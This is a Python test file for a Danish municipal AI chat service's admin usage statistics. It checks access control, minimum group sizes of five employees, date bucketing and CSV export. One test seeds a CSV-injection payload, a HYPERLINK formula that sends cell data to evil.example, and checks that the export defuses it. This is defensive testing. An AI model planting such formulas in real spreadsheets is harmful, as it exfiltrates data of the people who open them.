"""The statistics an admin sees (page, CSV, JSON) cover at least k employees each, in whole calendar buckets."""

from __future__ import annotations

import asyncio
from datetime import UTC, date, datetime, timedelta

import httpx
import pytest

from kkgpt.db.models import UsageEvent, utcnow
from kkgpt.usage.periods import buckets, local_day
from tests.conftest import login


async def _events(services, rows: list[tuple[str, str, str | None]], *, when: datetime | None = None,
                  **extra) -> None:
    async with services.sessions.begin() as session:
        for user, department, task in rows:
            session.add(UsageEvent(hour=when or datetime(2026, 10, 5, 9, tzinfo=UTC), user_key=user,
                                   department=department, kind="turn", task_category=task, model="gpt-4o-mini",
                                   status="complete", input_tokens=1000, output_tokens=500,
                                   pii_types=extra.get("pii", "PERSON"), special_categories=""))


async def _admin(client: httpx.AsyncClient) -> None:
    await login(client, "Admin", admin=True)


async def test_only_admins(client: httpx.AsyncClient) -> None:
    await login(client, "Medarbejder")
    assert (await client.get("/admin/stats")).status_code == 403
    assert (await client.get("/admin/stats.csv")).status_code == 403
    assert (await client.get("/api/v1/admin/stats?month=2026-10")).status_code == 403


async def test_month_view_page_csv_and_api(client: httpx.AsyncClient, app) -> None:
    rows = [(f"soc{i}", "Socialforvaltningen", "citizen_communication") for i in range(6)]
    rows += [(f"tmf{i}", "Teknik- og Miljøforvaltningen", "summarising") for i in range(2)]
    rows += [(f"bif{i}", "Børne- og Ungdomsforvaltningen", None) for i in range(3)]
    await _events(app.state.services, rows)
    await _admin(client)

    page = await client.get("/admin/stats?month=2026-10&by=department")
    assert page.status_code == 200
    assert "Socialforvaltningen" in page.text and "oktober 2026" in page.text
    assert "Teknik- og Miljøforvaltningen" not in page.text and "Børne- og Ungdomsforvaltningen" not in page.text
    assert "Øvrige (2 grupper lagt sammen)" in page.text
    assert "<svg" in page.text and 'role="img"' in page.text

    api = (await client.get("/api/v1/admin/stats?month=2026-10&by=department")).json()
    assert api["min_users"] == 5 and api["granularity"] == "month" and api["period"] == "2026-10"
    assert api["total"]["users"] == 11 and api["total"]["turns"] == 11
    assert {(r["group"], r["users"], r["merged_groups"]) for r in api["rows"]} == {
        ("Socialforvaltningen", 6, 1), (None, 5, 2)}
    assert all(r["period"] == "2026-10" for r in api["rows"])
    # The price of gpt-4o-mini (0.0011 / 0.0044 DKK per 1,000 tokens) for 11 turns of 1,000 in and 500 out.
    assert api["total"]["cost_dkk"] == pytest.approx(11 * (0.0011 + 0.0022), abs=1e-4)

    csv = await client.get("/admin/stats.csv?month=2026-10&by=task_category")
    assert csv.headers["content-type"].startswith("text/csv")
    lines = csv.text.strip().splitlines()
    assert lines[0].startswith("Periode;Opgavetype;Medarbejdere;Sammenlagte grupper;Svar;Tokens ind")
    assert any(line.startswith("oktober 2026;Kommunikation med borgere;6;1;6;6000;3000;") for line in lines)
    assert all(int(line.split(";")[2]) >= 5 for line in lines[1:])

    bad = await client.get("/api/v1/admin/stats?month=oktober")
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "invalid_month"


async def test_a_quiet_month_shows_nothing(client: httpx.AsyncClient, app) -> None:
    await _events(app.state.services, [(f"u{i}", "Økonomiforvaltningen", None) for i in range(3)])
    await _admin(client)
    page = await client.get("/admin/stats?month=2026-10")
    assert "Økonomiforvaltningen" not in page.text and "Ingen tal at vise i perioden" in page.text
    api = (await client.get("/api/v1/admin/stats?month=2026-10")).json()
    assert api["total"] is None and api["rows"] == [] and api["periods"][0]["shown"] is False


async def test_months_must_be_over_and_csv_has_no_formulas(client: httpx.AsyncClient, app) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
    await _events(app.state.services, [(f"u{i}", hostile, None) for i in range(5)])
    await _admin(client)
    current = utcnow().strftime("%Y-%m")
    refused = await client.get(f"/api/v1/admin/stats?month={current}")
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "month_not_closed"
    csv = (await client.get("/admin/stats.csv?month=2026-10&by=department")).text.replace("\r\n", "\n")
    assert "\n'=HYPERLINK" in csv or "\n\"'=HYPERLINK" in csv or ";'=HYPERLINK" in csv or ";\"'=HYPERLINK" in csv
    assert ";=HYPERLINK" not in csv and ';"=HYPERLINK' not in csv


async def test_days_weeks_and_months_of_any_range(client: httpx.AsyncClient, app) -> None:
    """Figures for every complete day, ISO week and month that overlaps the range; a quiet day is hidden."""
    services = app.state.services
    for day in range(1, 31):
        when = datetime(2026, 9, day, 10, tzinfo=UTC)
        people = 2 if when.weekday() == 6 else (0 if when.weekday() == 5 else 8)
        await _events(services, [(f"p{i}", "Socialforvaltningen", "summarising") for i in range(people)], when=when)
    await _admin(client)
    days = (await client.get("/api/v1/admin/stats?from=2026-09-01&to=2026-09-30&granularity=day&by=none")).json()
    assert [p["period"] for p in days["periods"]][:3] == ["2026-09-01", "2026-09-02", "2026-09-03"]
    sundays = [p for p in days["periods"] if date.fromisoformat(p["period"]).weekday() == 6]
    assert sundays and not any(p["shown"] for p in sundays)
    assert all(p["total"]["users"] >= 5 for p in days["periods"] if p["shown"])
    # The month minus the shown days is never one hidden Sunday: the hidden days together cover >= k.
    month = (await client.get("/api/v1/admin/stats?month=2026-09&by=none")).json()["total"]
    hidden_turns = month["turns"] - sum(p["total"]["turns"] for p in days["periods"] if p["shown"])
    assert hidden_turns == 0 or hidden_turns >= 2 * 4 + 8  # all Sundays, or Sundays plus a weekday

    weeks = (await client.get("/api/v1/admin/stats?from=2026-09-10&to=2026-09-20&granularity=week")).json()
    assert [p["period"] for p in weeks["periods"]] == ["2026-W37", "2026-W38"]
    assert weeks["periods"][0]["start"] == "2026-09-07" and weeks["periods"][0]["end"] == "2026-09-13"

    page = await client.get("/admin/stats?from=2026-09-01&to=2026-09-30&granularity=week")
    assert page.status_code == 200 and "uge 37, 2026" in page.text


async def test_today_is_never_shown(client: httpx.AsyncClient, app) -> None:
    now = utcnow()
    await _events(app.state.services, [(f"u{i}", "Socialforvaltningen", None) for i in range(9)],
                  when=now.replace(minute=0, second=0, microsecond=0))
    await _admin(client)
    local_today = local_day(now)  # Copenhagen's today, whatever the UTC date is
    today = local_today.isoformat()
    earlier = (local_today - timedelta(days=2)).isoformat()
    answer = (await client.get(f"/api/v1/admin/stats?from={earlier}&to={today}&granularity=day")).json()
    assert answer["to"] < today and all(p["period"] != today for p in answer["periods"])
    only_today = await client.get(f"/api/v1/admin/stats?from={today}&to={today}&granularity=day")
    assert only_today.status_code == 422 and only_today.json()["error"]["code"] == "invalid_range"
    assert answer["through"] == (local_today - timedelta(days=1)).isoformat()


async def test_department_filter_shows_only_what_the_department_view_shows(client: httpx.AsyncClient,
                                                                          app) -> None:
    rows = [(f"soc{i}", "Socialforvaltningen", "summarising") for i in range(7)]
    rows += [(f"kff{i}", "Kultur- og Fritidsforvaltningen", "translation") for i in range(2)]
    rows += [(f"bif{i}", "Børne- og Ungdomsforvaltningen", None) for i in range(3)]
    await _events(app.state.services, rows)
    await _admin(client)
    soc = (await client.get("/api/v1/admin/stats?month=2026-10&by=none&department=Socialforvaltningen")).json()
    assert soc["total"]["users"] == 7 and soc["department"] == "Socialforvaltningen"
    small = (await client.get("/api/v1/admin/stats?month=2026-10&by=none&department=Kultur- og Fritidsforvaltningen"))
    assert small.json()["total"] is None
    everyone = await client.get("/admin/stats?month=2026-10&by=task_category&department=")  # the form's "all"
    assert everyone.status_code == 200
    split = await client.get("/api/v1/admin/stats?month=2026-10&by=task_category&department=Socialforvaltningen")
    assert split.status_code == 422 and split.json()["error"]["code"] == "department_breakdown"


async def test_every_dimension_and_granularity_shows_only_figures_of_k(client: httpx.AsyncClient, app) -> None:
    services = app.state.services
    for day in range(1, 31):
        when = datetime(2026, 10, day, 9, tzinfo=UTC)
        rows = [(f"a{i}", "A", "summarising") for i in range(6 + day % 3)]
        rows += [(f"b{i}", "B", "translation") for i in range(day % 6)]
        rows += [("c0", "C", None)] if day % 4 == 0 else []
        await _events(services, rows, when=when, pii="DK_CPR" if day % 2 else "")
    await _admin(client)
    for granularity in ("day", "week", "month"):
        for by in ("none", "department", "task_category", "model", "status", "entity_type", "special_category",
                   "feedback", "blocked", "refusal", "guidelines"):
            answer = await client.get(f"/api/v1/admin/stats?from=2026-10-01&to=2026-10-31"
                                      f"&granularity={granularity}&by={by}")
            assert answer.status_code == 200, (by, answer.text)
            body = answer.json()
            assert all(r["users"] >= 5 for r in body["rows"]), (granularity, by)
            assert all(p["total"]["users"] >= 5 for p in body["periods"] if p["shown"])
            expected = [b.label for b in buckets(date(2026, 10, 1), date(2026, 10, 31), granularity,
                                                 through=date.fromisoformat(body["through"]))]
            assert [p["period"] for p in body["periods"]] == expected
    csv = await client.get("/admin/stats.csv?from=2026-10-01&to=2026-10-31&granularity=week&by=entity_type")
    assert csv.status_code == 200 and "CPR-nummer" in csv.text


async def test_english_page(client: httpx.AsyncClient, app) -> None:
    await _events(app.state.services, [(f"u{i}", "Socialforvaltningen", None) for i in range(23332 // 4000 + 5)])
    await _admin(client)
    client.cookies.set("kkgpt_lang", "en")
    page = await client.get("/admin/stats?month=2026-10")
    assert page.status_code == 200


async def test_guideline_acceptances_by_version(client: httpx.AsyncClient, app) -> None:
    from kkgpt.db.models import GuidelineAcceptance

    async with app.state.services.sessions.begin() as session:
        for i in range(7):
            session.add(GuidelineAcceptance(user_key=f"k{i}", version="v1",
                                            accepted_at=datetime(2026, 10, 2 + i, 8, tzinfo=UTC)))
        session.add(GuidelineAcceptance(user_key="k9", version="v2", accepted_at=datetime(2026, 10, 20, tzinfo=UTC)))
    await _admin(client)
    answer = (await client.get("/api/v1/admin/stats?month=2026-10&by=guidelines")).json()
    # The administrator's own acceptance (today) is not in October; v2's single acceptance is merged away.
    assert answer["total"]["users"] == 8 and answer["total"]["acceptances"] == 8
    assert [(r["group"], r["users"]) for r in answer["rows"]] == [(None, 8)]


async def test_acceptance_rate_of_active_employees(client: httpx.AsyncClient, app) -> None:
    """Of the employees active in October, the share who chatted under the guidelines in force (and so had
    accepted them): 8 of 14 (six chatted only under an earlier version), on the page, in JSON and CSV."""
    services = app.state.services
    current = services.library.guidelines.version
    async with services.sessions.begin() as session:
        for i in range(14):
            for version in ([current] if i < 8 else ["2025-old"]) + (["2025-old"] if i < 3 else []):
                session.add(UsageEvent(hour=datetime(2026, 10, 5 + i, 9, tzinfo=UTC), user_key=f"p{i}",
                                       department="Socialforvaltningen", kind="turn", status="complete",
                                       guidelines=version))
    await _admin(client)
    answer = (await client.get("/api/v1/admin/stats?month=2026-10&by=accepted_guidelines")).json()
    assert answer["periods"][0]["acceptance_rate"] == pytest.approx(8 / 14, abs=1e-4)
    rows = {r["group"]: r for r in answer["rows"]}
    assert (rows[current]["users"], rows["2025-old"]["users"]) == (8, 9)
    assert rows[current]["share_of_users"] == pytest.approx(8 / 14, abs=1e-4)
    page = (await client.get("/admin/stats?month=2026-10")).text
    panel = page[page.index('id="accepted_guidelines-heading"'):]
    panel = panel[:panel.index("</section>")]
    assert f"Andel der har accepteret version {current[:12]}" in panel and ">57 %<" in panel
    csv = (await client.get("/admin/stats.csv?month=2026-10&by=accepted_guidelines")).text.splitlines()
    assert csv[0].endswith("Andel af periodens medarbejdere") and any(line.endswith(";57 %") for line in csv)

    # With fewer than k employees outside the current version, the two groups merge: no rate is shown.
    async with services.sessions.begin() as session:
        for i in range(8):
            session.add(UsageEvent(hour=datetime(2026, 9, 5 + i, 9, tzinfo=UTC), user_key=f"s{i}",
                                   department="Socialforvaltningen", kind="turn", status="complete",
                                   guidelines=current if i < 6 else "2025-old"))
    september = (await client.get("/api/v1/admin/stats?month=2026-09&by=accepted_guidelines")).json()
    assert september["periods"][0]["shown"] and september["periods"][0]["acceptance_rate"] is None


async def test_start_up_prepares_the_statistics(settings, start_app, monkeypatch) -> None:
    """With KKGPT_STATS_WARMUP the last three months are rolled up at start-up, in the background."""
    from sqlalchemy import func, select

    from kkgpt.db.models import UsageRollup
    from kkgpt.usage.simulate import Plan, simulate

    async with start_app(settings) as (app, _client):
        services = app.state.services
        yesterday = services.statistics.through()
        await simulate(services.sessions, Plan(events=800, days=100, departments=5, last_day=yesterday),
                       services.session_secret)
    monkeypatch.setenv("KKGPT_STATS_WARMUP", "true")
    async with start_app(settings.model_copy(update={"stats_warmup": True})) as (app, _client):
        await asyncio.wait_for(app.state.services.statistics.warmed.wait(), 120)
        async with app.state.services.sessions() as session:
            days = await session.scalar(select(func.count(func.distinct(UsageRollup.day))))
    assert days >= 92


async def test_errors_by_kind(client: httpx.AsyncClient, app) -> None:
    async with app.state.services.sessions.begin() as session:
        for i in range(12):
            failed = i < 6
            session.add(UsageEvent(hour=datetime(2026, 10, 5, 9, tzinfo=UTC), user_key=f"u{i}", department="A",
                                   kind="turn", model="gpt-4o-mini", status="error" if failed else "complete",
                                   error_code="model_timeout" if failed else None))
    await _admin(client)
    answer = (await client.get("/api/v1/admin/stats?month=2026-10&by=status")).json()
    assert {(r["group"], r["users"]) for r in answer["rows"]} == {("complete", 6), ("model_timeout", 6)}
    csv = (await client.get("/admin/stats.csv?month=2026-10&by=status")).text
    assert "Fejl: modellen svarede ikke i tide;6;1;6" in csv
